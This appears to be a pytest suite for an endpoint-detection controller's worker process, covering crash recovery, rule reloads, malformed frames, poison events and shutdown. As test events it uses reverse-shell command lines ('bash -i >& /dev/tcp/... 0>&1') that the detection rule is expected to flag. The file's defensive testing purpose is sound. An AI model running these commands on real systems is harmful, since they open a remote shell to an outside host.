"""The detection worker process for real: kill -9 mid-stream, rule changes reaching it, bad
messages in both directions, a poisonous event, clean shutdown. Real processes, real SQLite."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import textwrap
import time
import urllib.request
from pathlib import Path
from typing import Any

import orjson
import psutil
import pytest

sys.path.insert(0, str(Path(__file__).parent))

from core_harness import Controller, Stream, make_config

from backplane.messages import PROTOCOL_VERSION, Hello
from backplane.schema import Action, Tier, new_event
from controller.detection import DetectionEngine
from controller.detection.worker import HEADER, MAX_FRAME, pack, unpack
from controller.hooks import StoreHooks
from controller.live import LiveHub, StreamFilter
from controller.metrics import Metrics
from controller.store import SQLiteStore

pytestmark = pytest.mark.timeout(120)

HOST = "h1"
SHELL_RULE = "10efcd0d-9ae2-4b62-a8cf-3db9e6bdb7ba"  # controller/rules: reverse shell
ROOT = Path(__file__).resolve().parents[2]

CANARY_RULE = """\
title: Worker Canary
id: 6c0b5a52-2a55-4a8e-9d0e-2f7f1c6f0b11
status: experimental
description: test rule
logsource:
  product: linux
  category: process_creation
detection:
  sel:
    CommandLine|contains: 'edr-worker-canary'
  condition: sel
level: medium
"""
CANARY_ID = "6c0b5a52-2a55-4a8e-9d0e-2f7f1c6f0b11"


def exec_event(
    pid: int, cmd: str, parent: int | None = None, exe: str = "/usr/bin/bash"
) -> dict[str, Any]:
    ev = new_event(Action.EXEC, host={"id": HOST}, tier=Tier.FALLBACK)
    ev["process"] = {
        "pid": pid,
        "entity_id": f"e{pid}",
        "executable": exe,
        "command_line": cmd,
        "parent": {} if parent is None else {"pid": parent, "entity_id": f"e{parent}"},
    }
    ev["user"] = {"id": "1000", "name": "alice"}
    return ev


def batch(n: int, size: int = 40) -> list[dict[str, Any]]:
    """``size`` events: an sshd, a login shell under it, benign commands and one reverse shell
    started by the login shell (so its alert has a two-process ancestry)."""
    base = n * 1000
    out = [
        exec_event(base, "sshd: alice [priv]", 1, "/usr/sbin/sshd"),
        exec_event(base + 1, "-bash", base),
    ]
    out += [
        exec_event(base + 10 + i, f"ls -l /tmp/{n}/{i}", base + 1, "/usr/bin/ls")
        for i in range(size - 3)
    ]
    out.append(exec_event(base + 2, f"bash -i >& /dev/tcp/10.9.9.9/{4000 + n} 0>&1", base + 1))
    return out


def running(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


async def started(
    db: Path, engine: DetectionEngine | None = None, **kw: Any
) -> tuple[StoreHooks, SQLiteStore, Any]:
    store = SQLiteStore(db, synchronous="NORMAL")
    if engine is None:
        engine = DetectionEngine()
        engine.load([])
    hub = LiveHub()
    sub = hub.subscribe(StreamFilter.parse(kind="alert"), queue_size=10_000)
    hooks = StoreHooks(store, engine, hub, metrics=Metrics(), **kw)
    await hooks.start()
    await hooks.on_hello(HOST, Hello(PROTOCOL_VERSION, "1", HOST, "Linux", "6", {}, [], -1), "peer")
    return hooks, store, sub


def live_alerts(sub: Any) -> list[dict[str, Any]]:
    out = []
    while not sub.queue.empty():
        out.append(sub.queue.get_nowait()[1])
    return out


def test_worker_killed_mid_stream_evaluates_everything_once(tmp_path: Path) -> None:
    """SIGKILL the worker while it holds an unanswered round: a new worker evaluates that
    round, every reverse shell raises exactly one alert, the watermark reaches the end."""

    async def scenario() -> None:
        hooks, store, sub = await started(tmp_path / "c.db", detection_queue=64)
        first = hooks.worker_pid
        assert first is not None and running(first)
        seq = 0
        for _ in range(5):
            seq += 1
            assert await hooks.commit_batch(HOST, seq, batch(seq), 0)
        await asyncio.wait_for(hooks.drained(), 20)
        # Stop the worker so the next rounds stay unanswered, then kill it for real.
        os.kill(first, signal.SIGSTOP)
        for _ in range(10):
            seq += 1
            assert await hooks.commit_batch(HOST, seq, batch(seq), 0)
        await asyncio.sleep(0.2)
        assert hooks.metrics.alerts == 5  # nothing answered while it is stopped
        os.kill(first, signal.SIGKILL)
        for _ in range(10):
            seq += 1
            assert await hooks.commit_batch(HOST, seq, batch(seq), 0)
        await asyncio.wait_for(hooks.drained(), 30)
        second = hooks.worker_pid
        assert second is not None and second != first and running(second)
        assert not running(first)
        assert hooks.metrics.detection_worker_restarts == 1
        assert hooks.metrics.detection_errors == 0
        await hooks.stop()

        alerts = store.list_alerts(limit=1000)
        shells = {
            e.id: e.event
            for e in store.search_events(host_id=HOST, limit=10_000).events
            if "/dev/tcp/" in e.event["process"]["command_line"]
        }
        assert len(shells) == seq and len(alerts) == seq  # one per batch, none twice
        assert sorted(a.event_id for a in alerts) == sorted(shells)
        for a in alerts:
            assert a.rule_id == SHELL_RULE and a.event == shells[a.event_id]
            n = a.event["process"]["pid"] // 1000
            # Ancestry from the worker's process cache (the new worker rebuilt it from the
            # round it evaluated again and the batches after).
            assert [p["entity_id"] for p in a.ancestry] == [f"e{n * 1000 + 1}", f"e{n * 1000}"]
            assert a.ancestry[0] == {
                "entity_id": f"e{n * 1000 + 1}",
                "pid": n * 1000 + 1,
                "executable": "/usr/bin/bash",
                "command_line": "-bash",
                "user": "alice",
            }
        assert sorted(d["id"] for d in live_alerts(sub)) == sorted(a.id for a in alerts)
        last = max(e.id for e in store.search_events(host_id=HOST, limit=10_000).events)
        assert store.detection_watermark() == last
        store.close()

    asyncio.run(scenario())


def test_rule_reload_enable_and_disable_reach_the_worker(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()

    async def scenario() -> None:
        engine = DetectionEngine(include_builtin=False)
        engine.load([rules])
        hooks, store, sub = await started(tmp_path / "c.db", engine)
        pid = hooks.worker_pid
        canary = [exec_event(77, "echo edr-worker-canary")]
        await hooks.commit_batch(HOST, 1, canary, 0)
        await asyncio.wait_for(hooks.drained(), 10)
        assert hooks.metrics.alerts == 0  # no rule yet

        (rules / "canary.yml").write_text(CANARY_RULE)
        await asyncio.to_thread(engine.reload)
        await hooks.commit_batch(HOST, 2, canary, 0)
        await asyncio.wait_for(hooks.drained(), 10)
        assert [a["rule_id"] for a in live_alerts(sub)] == [CANARY_ID]

        engine.disable(CANARY_ID)
        await hooks.commit_batch(HOST, 3, canary, 0)
        await asyncio.wait_for(hooks.drained(), 10)
        assert live_alerts(sub) == []
        engine.enable(CANARY_ID)
        await hooks.commit_batch(HOST, 4, canary, 0)
        await asyncio.wait_for(hooks.drained(), 10)
        assert [a["rule_id"] for a in live_alerts(sub)] == [CANARY_ID]
        assert hooks.worker_pid == pid  # the same process, reloaded in place
        await hooks.stop()
        store.close()

    asyncio.run(scenario())


def test_rule_uploaded_through_the_api_reaches_the_worker(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    ctl = Controller(make_config(tmp_path, rule_dirs=(rules,)))
    try:
        token = ctl.api_token("admin")
        stream = Stream(ctl, token, "?kind=alert")
        try:
            req = urllib.request.Request(  # noqa: S310 - https to the test controller
                ctl.url + "/api/v1/rules",
                data=orjson.dumps({"yaml": CANARY_RULE}),
                method="POST",
                headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
            )
            ctx = ctl.ssl_context()
            ctx.check_hostname = False
            with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:  # noqa: S310
                assert resp.status == 201
            hooks = ctl.ctx.hooks
            hello = Hello(PROTOCOL_VERSION, "1", HOST, "Linux", "6", {}, [], -1)
            ctl.call(hooks.on_hello(HOST, hello, "peer"))
            ctl.call(hooks.commit_batch(HOST, 1, [exec_event(5, "x edr-worker-canary")], 0))
            msg = stream.next(lambda m: m["kind"] == "alert", timeout=15)
            assert msg["data"]["rule_id"] == CANARY_ID
        finally:
            stream.close()
        pid = ctl.ctx.hooks.worker_pid
        assert pid is not None and running(pid)
    finally:
        ctl.close()
    assert not running(pid)  # the server's stop ended its worker


# -- the protocol, both directions ------------------------------------------------------------


class RawWorker:
    """The real worker command, driven frame by frame."""

    def __init__(self) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "controller.detection.worker"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=ROOT,
        )

    def send_raw(self, data: bytes) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.write(data)
        self.proc.stdin.flush()

    def read(self) -> list[Any] | None:
        assert self.proc.stdout is not None
        header = self.proc.stdout.read(HEADER.size)
        if len(header) < HEADER.size:
            return None
        return unpack(self.proc.stdout.read(HEADER.unpack(header)[0]))

    def ask(self, msg: list[Any]) -> list[Any] | None:
        self.send_raw(pack(msg))
        return self.read()

    def finish(self) -> tuple[int, str]:
        out = self.proc.communicate(timeout=10)
        return self.proc.returncode, out[1].decode()


def test_worker_answers_bad_requests_and_keeps_serving() -> None:
    w = RawWorker()
    try:
        assert w.ask(["rules", 1, [], True, []])[:2] == ["rules", 1]
        w.send_raw(HEADER.pack(3) + b"\xc1\xc1\xc1")  # not msgpack
        assert w.read()[0] == "error"
        assert w.ask(["launch", 1])[0] == "error"  # unknown kind
        assert w.ask(["eval", 1])[0] == "error"  # malformed
        shell = orjson.dumps(exec_event(9, "bash -i >& /dev/tcp/10.1.1.1/9 0>&1", 8)).decode()
        good = orjson.dumps(exec_event(8, "-bash")).decode()
        # Documents that are not JSON objects are counted and skipped; the rest is matched.
        done = w.ask(["eval", 7, [["h", 100, ["{not json", "[1, 2]", good, shell]]]])
        assert done is not None and done[:2] == ["done", 7]
        [alert] = done[2]
        assert alert[0] == SHELL_RULE and alert[3] == "h" and alert[4] == 103
        assert orjson.loads(alert[5]) == orjson.loads(shell)
        assert [p["entity_id"] for p in orjson.loads(alert[6])] == ["e8"]
        assert done[3] == 2  # errors
        # A frame longer than the limit leaves the stream unreadable: an error, then exit 2.
        w.send_raw(HEADER.pack(MAX_FRAME + 1))
        assert w.read()[0] == "error"
        code, err = w.finish()
        assert code == 2 and "limit" in err
    finally:
        if w.proc.poll() is None:
            w.proc.kill()
            w.proc.wait()


def test_worker_exits_cleanly_at_end_of_input() -> None:
    w = RawWorker()
    assert w.ask(["rules", 1, [], True, []])[0] == "rules"
    assert w.proc.stdin is not None
    w.proc.stdin.close()
    assert w.proc.wait(10) == 0


FAKE_WORKER = textwrap.dedent("""\
    # A worker that loads rules like the real one but answers every round with garbage.
    import sys
    from controller.detection.worker import HEADER, pack, unpack, Evaluator
    ev = Evaluator()
    while True:
        header = sys.stdin.buffer.read(HEADER.size)
        if len(header) < HEADER.size:
            sys.exit(0)
        msg = unpack(sys.stdin.buffer.read(HEADER.unpack(header)[0]))
        if msg[0] == "rules":
            sys.stdout.buffer.write(pack(ev.handle(msg)))
        else:
            sys.stdout.buffer.write(HEADER.pack(5) + b"\\xff" * 5)
        sys.stdout.buffer.flush()
""")

POISON_WORKER = textwrap.dedent("""\
    # The real worker, except that it dies on any round holding the word POISON.
    import os, sys
    from controller.detection import worker
    real = worker.Evaluator.evaluate
    def evaluate(self, rnd, units):
        if any("POISON" in d for _, _, docs in units for d in docs):
            os._exit(3)
        return real(self, rnd, units)
    worker.Evaluator.evaluate = evaluate
    sys.exit(worker.main(sys.argv[1:]))
""")


def test_garbage_from_the_worker_replaces_it_and_detection_goes_on(tmp_path: Path) -> None:
    script = tmp_path / "fake_worker.py"
    script.write_text(FAKE_WORKER)

    async def scenario() -> None:
        hooks, store, _ = await started(
            tmp_path / "c.db", worker_argv=[sys.executable, str(script)]
        )
        events = [exec_event(1, "ls"), exec_event(2, "id")]
        await hooks.commit_batch(HOST, 1, events, 0)
        await asyncio.wait_for(hooks.drained(), 30)
        # Two workers failed the round, then two per half: each event is given up on alone.
        assert hooks.metrics.detection_worker_restarts >= 5
        assert hooks.metrics.detection_errors == 2
        pids = {hooks.worker_pid}
        await hooks.stop()
        assert hooks.worker_pid is None
        assert not any(running(p) for p in pids if p)
        assert store.detection_watermark() == store.last_event_id()  # ingest not held up
        store.close()

    asyncio.run(scenario())


def test_poisonous_event_is_isolated_and_the_rest_evaluated(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    script = tmp_path / "poison_worker.py"
    script.write_text(POISON_WORKER)

    async def scenario() -> None:
        hooks, store, sub = await started(
            tmp_path / "c.db", worker_argv=[sys.executable, str(script)]
        )
        events = batch(1, size=12)
        events[5]["process"]["command_line"] = "POISON"
        stored = await hooks.commit_batch(HOST, 1, events, 0)
        assert stored
        await asyncio.wait_for(hooks.drained(), 60)
        assert hooks.metrics.detection_errors == 1
        assert [a["rule_id"] for a in live_alerts(sub)] == [SHELL_RULE]
        await hooks.stop()
        poison_id = next(
            e.id
            for e in store.search_events(host_id=HOST, limit=100).events
            if e.event["process"]["command_line"] == "POISON"
        )
        assert f"event {poison_id} of host {HOST} failed two detection workers" in caplog.text
        store.close()

    asyncio.run(scenario())


def test_stop_ends_the_worker_even_when_it_is_stuck(tmp_path: Path) -> None:
    async def scenario() -> None:
        hooks, store, _ = await started(tmp_path / "c.db")
        pid = hooks.worker_pid
        assert pid is not None
        os.kill(pid, signal.SIGSTOP)  # stuck: will never read its end of input
        await hooks.commit_batch(HOST, 1, batch(1), 0)
        t0 = time.monotonic()
        await hooks.stop(timeout=0.5)
        assert time.monotonic() - t0 < 20
        assert not running(pid)
        assert psutil.Process().children() == []
        store.close()

    asyncio.run(scenario())
    # The batch committed but never evaluated is evaluated at the next start, once.

    async def again() -> None:
        hooks, store, _ = await started(tmp_path / "c.db")
        await asyncio.wait_for(hooks.drained(), 20)
        assert hooks.replayed == 40 and hooks.metrics.alerts == 1
        await hooks.stop()
        assert psutil.Process().children() == []
        store.close()

    asyncio.run(again())


def test_clean_stop_leaves_no_process(tmp_path: Path) -> None:
    async def scenario() -> None:
        hooks, store, _ = await started(tmp_path / "c.db")
        pid = hooks.worker_pid
        assert pid is not None and psutil.Process(pid).ppid() == os.getpid()
        await hooks.commit_batch(HOST, 1, batch(1), 0)
        await hooks.stop()
        assert not running(pid)
        assert psutil.Process().children() == []
        store.close()

    asyncio.run(scenario())


def test_concurrent_sessions_reach_detection_in_commit_order(tmp_path: Path) -> None:
    """A batch that commits first but whose session is slow to resume must still reach
    detection before a later batch: otherwise a round could move the watermark past it and
    a crash before its own round would leave it unevaluated for good."""

    async def scenario() -> None:
        hooks, store, _sub = await started(tmp_path / "c.db")
        await hooks.on_hello(
            "h2", Hello(PROTOCOL_VERSION, "1", "h2", "Linux", "6", {}, [], -1), "peer"
        )
        real_store = store.store_batch

        def committed_then_slow(host_id: str, *args: Any) -> Any:
            out = real_store(host_id, *args)
            if host_id == HOST:
                time.sleep(0.3)  # committed (lower ids), but its session resumes last
            return out

        store.store_batch = committed_then_slow  # type: ignore[method-assign]
        assert hooks._queue is not None
        real_put = hooks._queue.put
        order: list[int] = []

        async def recording_put(item: Any) -> None:
            order.append(item[1])  # the batch's first event id
            await real_put(item)

        hooks._queue.put = recording_put  # type: ignore[method-assign]
        first = asyncio.create_task(hooks.commit_batch(HOST, 1, batch(1), 0))
        await asyncio.sleep(0.1)
        second = asyncio.create_task(hooks.commit_batch("h2", 1, batch(2), 0))
        assert await first and await second
        assert len(order) == 2 and order == sorted(order)
        await asyncio.wait_for(hooks.drained(), 20)
        assert hooks.metrics.alerts == 2
        await hooks.stop()
        store.close()

    asyncio.run(scenario())
